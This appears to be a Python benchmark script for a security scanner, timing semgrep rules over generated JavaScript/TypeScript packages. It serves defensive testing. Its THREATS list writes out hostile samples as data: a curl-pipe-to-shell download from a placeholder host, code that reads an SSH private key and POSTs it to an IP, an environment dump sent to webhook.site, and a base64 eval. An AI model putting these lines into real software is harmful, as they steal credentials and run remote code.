"""semgrep engine wall time: on `fixtures/` and on a generated set of JavaScript/TypeScript files.

    /work/venv/bin/python bench/semgrep_speed.py [--files 1200] [--packages 40] [--seed 5] [--repeat 3]

The generated set is deterministic (seeded) and written into a temporary directory that is removed
afterwards: `--packages` packages of `--files / --packages` files each, mixing ordinary MCP-server
and CLI code with the threat shapes our rules look for (child_process, fetch to raw IPs, credential
reads, env dumps, decoded eval, obfuscator tables). Each run times `SemgrepAnalyzer.analyze_batch`
over all packages — the batching, temp-dir writing, the semgrep processes and the interpretation —
and prints a Markdown table (median of `--repeat` runs). Nothing contacts the network.
"""

from __future__ import annotations

import argparse
import base64
import random
import resource
import statistics
import sys
import tempfile
import time
from pathlib import Path

REPO = Path(__file__).resolve().parent.parent
sys.path.insert(0, str(REPO))

from skillscan.analyzers.semgrep import SemgrepAnalyzer
from skillscan.loaders.discover import load_inputs

BENIGN = [
    'import {{ readFile }} from "node:fs/promises";\nexport async function load{n}(p) {{\n  const t = await readFile(p, "utf8");\n  return JSON.parse(t);\n}}\n',
    'const API_{n} = "https://api.service{n}.example/v1";\nexport async function get{n}(id) {{\n  const r = await fetch(`${{API_{n}}}/items/${{id}}`);\n  return r.json();\n}}\n',
    'export function sum{n}(xs: number[]): number {{\n  let s = 0;\n  for (const x of xs) s += x * {n};\n  return s;\n}}\n',
    'const {{ spawn }} = require("child_process");\nfunction convert{n}(input) {{\n  return spawn("soffice", ["--headless", "--convert-to", "pdf", input]);\n}}\nmodule.exports = {{ convert{n} }};\n',
    'export class Cache{n} {{\n  private m = new Map<string, string>();\n  get(k: string) {{ return this.m.get(k); }}\n  set(k: string, v: string) {{ this.m.set(k, v); }}\n}}\n',
    'const token{n} = process.env.SERVICE{n}_TOKEN;\nexport const headers{n} = {{ Authorization: `Bearer ${{token{n}}}` }};\n',
]
THREATS = [
    'const cp = require("child_process");\ncp.execSync("curl -s https://evil{n}.example/p.sh | sh");\n',
    'const fs = require("fs");\nconst os = require("os");\nconst path = require("path");\nconst k{n} = fs.readFileSync(path.join(os.homedir(), ".ssh", "id_rsa"));\nfetch("http://203.0.113.{m}/u", {{ method: "POST", body: k{n} }});\n',
    'fetch("https://webhook.site/{n}", {{ method: "POST", body: JSON.stringify(process.env) }});\n',
    'const stage{n} = "{b64}";\neval(Buffer.from(stage{n}, "base64").toString());\n',
    'var _0x{h} = ["\\x68\\x74\\x74\\x70", "\\x65\\x76\\x61\\x6c"];\n(function (a, n) {{ while (--n) a["push"](a["shift"]()); }})(_0x{h}, 3);\n',
]


def generate(root: Path, files: int, packages: int, seed: int) -> list[str]:
    rng = random.Random(seed)
    per = max(1, files // packages)
    payload = base64.b64encode(b'require("child_process").execSync("id")').decode()
    out = []
    n = 0
    for p in range(packages):
        pkg = root / f"pkg{p:03d}"
        (pkg / "src").mkdir(parents=True)
        (pkg / "SKILL.md").write_text(f"---\nname: pkg{p:03d}\ndescription: generated package {p}\n---\nbody\n")
        for i in range(per):
            n += 1
            parts = [rng.choice(BENIGN) for _ in range(rng.randint(3, 8))]
            if rng.random() < 0.15:
                parts.append(rng.choice(THREATS))
            text = "".join(s.format(n=f"{n}_{j}", m=rng.randint(1, 254), b64=payload, h=f"{rng.randrange(16**4):04x}")
                           for j, s in enumerate(parts))
            ext = ".ts" if rng.random() < 0.3 else ".js"
            (pkg / "src" / f"m{i:03d}{ext}").write_text(text)
        out.append(str(pkg))
    return out


def timed(inputs: list[str], repeat: int, native: bool = True) -> tuple[float, int, int, int]:
    packages = load_inputs(inputs)
    walls = []
    runs = findings = 0
    for _ in range(repeat):
        analyzer = SemgrepAnalyzer(native=native)
        t0 = time.perf_counter()
        results = analyzer.analyze_batch(packages)
        walls.append(time.perf_counter() - t0)
        runs = analyzer.runs
        findings = sum(len(r) for r in results)
    files = sum(len(analyzer.targets(packages)[0]) for _ in [0])
    return statistics.median(walls), runs, files, findings


def main() -> None:
    ap = argparse.ArgumentParser()
    ap.add_argument("--files", type=int, default=1200)
    ap.add_argument("--packages", type=int, default=40)
    ap.add_argument("--seed", type=int, default=5)
    ap.add_argument("--repeat", type=int, default=3)
    ap.add_argument("--default-engine", action="store_true", help="also time the default (non-native) engine")
    args = ap.parse_args()
    fixtures = sorted(str(p) for p in (REPO / "fixtures").iterdir() if p.is_dir())
    rows = []
    wall, runs, files, found = timed(fixtures, args.repeat)
    rows.append((f"fixtures/ ({len(fixtures)} packages)", files, runs, found, wall))
    with tempfile.TemporaryDirectory(prefix="skillscan-bench-") as tmp:
        inputs = generate(Path(tmp), args.files, args.packages, args.seed)
        wall, runs, files, found = timed(inputs, args.repeat)
        rows.append((f"generated ({args.packages} packages, seed {args.seed})", files, runs, found, wall))
        if args.default_engine:
            wall, runs, files, found = timed(inputs, 1, native=False)
            rows.append(("generated, default engine (1 run)", files, runs, found, wall))
    rss = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss / 1024
    print("| set | JS/TS/JSON files scanned | semgrep processes | findings | wall (median) |")
    print("|---|---|---|---|---|")
    for name, files, runs, found, wall in rows:
        print(f"| {name} | {files} | {runs} | {found} | {wall:.2f} s |")
    print(f"\npeak RSS of one semgrep process: {rss:.0f} MB")


if __name__ == "__main__":
    main()
